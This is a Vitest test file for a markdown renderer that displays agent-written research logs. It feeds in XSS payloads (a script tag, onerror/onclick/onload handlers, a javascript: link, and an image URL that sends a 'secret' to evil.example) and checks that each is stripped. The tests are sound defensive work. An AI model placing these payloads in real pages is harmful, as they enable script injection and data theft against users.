// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

// What an agent-written research log could carry, rendered into a real DOM: nothing in it may run.
describe('renderMarkdown', () => {
  const render = (text: string) => {
    const host = document.createElement('div');
    host.innerHTML = renderMarkdown(text);
    return host;
  };

  it('renders markdown: headings, lists, code, tables of figures', () => {
    const host = render('# Step 3\n\n- kept: **0.84**\n\n`model.py`\n');
    expect(host.querySelector('h1')?.textContent).toBe('Step 3');
    expect(host.querySelector('li strong')?.textContent).toBe('0.84');
    expect(host.querySelector('code')?.textContent).toBe('model.py');
  });

  it('strips a <script>, its code with it', () => {
    const host = render('Hypothesis: <script>window.pwned = 1</script> works');
    expect(host.querySelector('script')).toBeNull();
    expect(host.textContent).not.toContain('pwned');
    expect(host.textContent).toContain('Hypothesis:');
    expect(host.textContent).toContain('works');
  });

  it('leaves no element with an event handler (<img onerror>, <a onclick>, <svg onload>)', () => {
    const host = render(
      '<img src=x onerror="window.pwned=1">\n\n<a href="#" onclick="x()">a</a>\n\n<svg onload="x()"></svg>',
    );
    expect(host.querySelector('img')).toBeNull();
    for (const el of host.querySelectorAll('*')) {
      for (const attr of el.attributes) expect(attr.name.startsWith('on')).toBe(false);
    }
    expect(host.innerHTML).not.toContain('pwned');
  });

  it("keeps the research log's folded proposals (<details>/<summary>) as elements", () => {
    const host = render('<details><summary>Proposal</summary>\n\nHYPOTHESIS: **more trees**\n\n</details>\n');
    expect(host.querySelector('details summary')?.textContent).toBe('Proposal');
    expect(host.querySelector('details strong')?.textContent).toBe('more trees');
  });

  it('drops javascript: links and markdown images', () => {
    const host = render('[click](javascript:alert(1)) and ![pixel](http://evil.example/p.png?d=secret)');
    for (const a of host.querySelectorAll('a'))
      expect(a.getAttribute('href') ?? '').not.toMatch(/javascript/i);
    expect(host.querySelector('img')).toBeNull();
  });
});
